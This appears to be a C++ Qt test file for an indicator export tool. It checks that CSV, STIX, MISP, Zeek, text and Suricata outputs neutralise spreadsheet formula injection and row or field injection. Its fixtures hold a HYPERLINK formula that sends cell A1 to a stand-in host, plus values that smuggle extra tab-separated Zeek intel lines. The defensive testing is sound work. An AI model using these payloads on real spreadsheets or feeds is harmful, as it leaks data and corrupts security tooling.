// Spreadsheet formula injection and row injection on every export path. Indicators whose
// free-text fields start with = + - @ TAB or CR (and hold line breaks and tabs) are written
// in every format, through the workspace exporter (models/io) and the engine writers:
//  - CSV outputs (mde-csv, csv): no cell starts with a formula character unless it is
//    neutralised with a leading apostrophe, and every row has the header's cell count;
//  - STIX and MISP: valid JSON that holds the text exactly (JSON needs no neutralising);
//  - Zeek TSV: one line per indicator, 4 fields each (a tab or line break in a title must
//    not add a field or an intel line);
//  - text and Suricata datasets: values only, one per line, none a formula.
// The preview's --matches CSV is covered end to end in tests/e2e/test_security_cli.cpp.

#include "engine/codec/indicator_writer.h"
#include "engine/codec/suricata_datasets.h"
#include "models/io/indicator_export.h"
#include "models/store/workspace_store.h"

#include <QBuffer>
#include <QTemporaryDir>
#include <QtTest>

#include <nlohmann/json.hpp>

#include <sstream>

using namespace indicia;

namespace {

const char* const kFormulaStarts[] = {"=", "+", "-", "@", "\t", "\r"};

std::string payload(const char* start, int i)
{
    return std::string(start) + "HYPERLINK(\"http://x.example/?\"&A1;\"click\")" + std::to_string(i);
}

std::vector<Indicator> hostileIndicators()
{
    std::vector<Indicator> out;
    int i = 0;
    for (const char* start : kFormulaStarts) {
        Indicator ind;
        ind.type = i % 2 ? IndicatorType::DomainName : IndicatorType::IpAddress;
        ind.value = i % 2 ? "host" + std::to_string(i) + ".example.com" : "11.0.0." + std::to_string(i + 1);
        ind.action = Action::Block;
        ind.severity = Severity::High;
        ind.title = payload(start, i) + "\n9.9.9.9\tIntel::ADDR\tinjected\tline";
        ind.description = payload(start, i + 100) + "\r\n=2+2";
        ind.recommendedActions = payload(start, i + 200);
        ind.category = payload(start, i + 300);
        ind.externalId = payload(start, i + 400);
        ind.rbacGroups = {payload(start, i + 500)};
        ind.mitreTechniques = {payload(start, i + 600)};
        out.push_back(ind);
        ++i;
    }
    return out;
}

bool isFormulaChar(char c) { return c == '=' || c == '+' || c == '-' || c == '@' || c == '\t' || c == '\r'; }

// RFC 4180 rows (quoted cells may hold commas, quotes and line breaks).
std::vector<std::vector<std::string>> parseCsv(const std::string& text)
{
    std::vector<std::vector<std::string>> rows;
    std::vector<std::string> row;
    std::string cell;
    bool quoted = false, any = false;
    for (std::size_t i = 0; i < text.size(); ++i) {
        const char c = text[i];
        if (quoted) {
            if (c == '"' && i + 1 < text.size() && text[i + 1] == '"') {
                cell += '"';
                ++i;
            } else if (c == '"') {
                quoted = false;
            } else {
                cell += c;
            }
            continue;
        }
        if (c == '"' && cell.empty()) {
            quoted = any = true;
        } else if (c == ',') {
            row.push_back(cell);
            cell.clear();
            any = true;
        } else if (c == '\n' || (c == '\r' && i + 1 < text.size() && text[i + 1] == '\n')) {
            if (c == '\r')
                ++i;
            row.push_back(cell);
            rows.push_back(row);
            row.clear();
            cell.clear();
            any = false;
        } else {
            cell += c;
            any = true;
        }
    }
    if (any || !cell.empty()) {
        row.push_back(cell);
        rows.push_back(row);
    }
    return rows;
}

void checkCsv(const std::string& text, const char* what)
{
    const auto rows = parseCsv(text);
    QVERIFY2(rows.size() == 1 + std::size(kFormulaStarts), what);
    for (const auto& row : rows) {
        QVERIFY2(row.size() == rows.front().size(), what);
        for (const std::string& cell : row)
            QVERIFY2(cell.empty() || !isFormulaChar(cell.front()), (std::string(what) + ": cell " + cell).c_str());
    }
    // The text survives behind the apostrophe.
    QVERIFY2(text.find("'=HYPERLINK") != std::string::npos, what);
}

void checkZeek(const std::string& text)
{
    std::istringstream in(text);
    int dataLines = 0;
    for (std::string line; std::getline(in, line);) {
        if (line.starts_with('#'))
            continue;
        ++dataLines;
        QCOMPARE(std::count(line.begin(), line.end(), '\t'), std::ptrdiff_t(3));
        QVERIFY(line.find('\r') == std::string::npos);
    }
    QCOMPARE(dataLines, int(std::size(kFormulaStarts)));
}

void checkJson(const std::string& text, const std::vector<Indicator>& indicators)
{
    const nlohmann::json doc = nlohmann::json::parse(text, nullptr, false);
    QVERIFY(!doc.is_discarded());
    const std::string dumped = doc.dump();
    for (const Indicator& ind : indicators)
        QVERIFY2(dumped.find(nlohmann::json(ind.title).dump().substr(1, 20)) != std::string::npos, ind.title.c_str());
}

void checkValuesOnly(const std::string& text)
{
    std::istringstream in(text);
    for (std::string line; std::getline(in, line);)
        QVERIFY2(line.empty() || line.starts_with('#') || !isFormulaChar(line.front()), line.c_str());
    QVERIFY(text.find("HYPERLINK") == std::string::npos);
}

} // namespace

class TestExportInjection : public QObject {
    Q_OBJECT
private slots:
    void engineWriters()
    {
        const std::vector<Indicator> indicators = hostileIndicators();
        for (const WriteFormat format : kAllWriteFormats) {
            auto writer = makeWriter(format, TimePoint{});
            std::ostringstream out;
            writer->begin(out);
            for (const Indicator& ind : indicators)
                if (writer->accepts(ind.type))
                    writer->write(out, ind);
            writer->end(out);
            const std::string name(toString(format));
            switch (format) {
            case WriteFormat::MdeCsv:
            case WriteFormat::FullCsv: checkCsv(out.str(), name.c_str()); break;
            case WriteFormat::Stix:
            case WriteFormat::Misp: checkJson(out.str(), indicators); break;
            case WriteFormat::Zeek: checkZeek(out.str()); break;
            case WriteFormat::Text: checkValuesOnly(out.str()); break;
            }
        }
        SuricataDatasets datasets;
        for (const Indicator& ind : indicators)
            datasets.add(ind);
        QVERIFY(!datasets.files().empty());
        for (const auto& [file, text] : datasets.files())
            checkValuesOnly(text);
    }

    // The same through a workspace: what the store keeps of the fields is what is written.
    void workspaceExporter()
    {
        QTemporaryDir dir;
        WorkspaceStore store;
        QVERIFY(!store.open(dir.filePath(QStringLiteral("export.indicia"))));
        for (Indicator ind : hostileIndicators()) {
            ind.mitreTechniques = {"T1059"}; // the store validates technique ids
            const auto saved = store.upsert(ind);
            QVERIFY2(saved.ok(), qPrintable(saved.error().message));
        }
        for (const ExportFormat format : kAllExportFormats) {
            IndicatorExporter exporter(store, format);
            QBuffer buffer;
            buffer.open(QIODevice::WriteOnly);
            const auto result = exporter.write({}, buffer);
            QVERIFY(result.ok());
            const std::string text = buffer.data().toStdString();
            const QByteArray label = formatLabel(format).toUtf8();
            if (format == ExportFormat::MdeCsv || format == ExportFormat::FullCsv) {
                for (const auto& row : parseCsv(text))
                    for (const std::string& cell : row)
                        QVERIFY2(cell.empty() || !isFormulaChar(cell.front()), QByteArray(label + ": " + cell.c_str()).constData());
            } else if (format == ExportFormat::Zeek) {
                std::istringstream in(text);
                for (std::string line; std::getline(in, line);)
                    if (!line.starts_with('#'))
                        QCOMPARE(std::count(line.begin(), line.end(), '\t'), std::ptrdiff_t(3));
            } else if (format == ExportFormat::Stix || format == ExportFormat::Misp) {
                QVERIFY(!nlohmann::json::parse(text, nullptr, false).is_discarded());
            } else {
                checkValuesOnly(text);
            }
        }
    }
};

QTEST_GUILESS_MAIN(TestExportInjection)
#include "test_export_injection.moc"
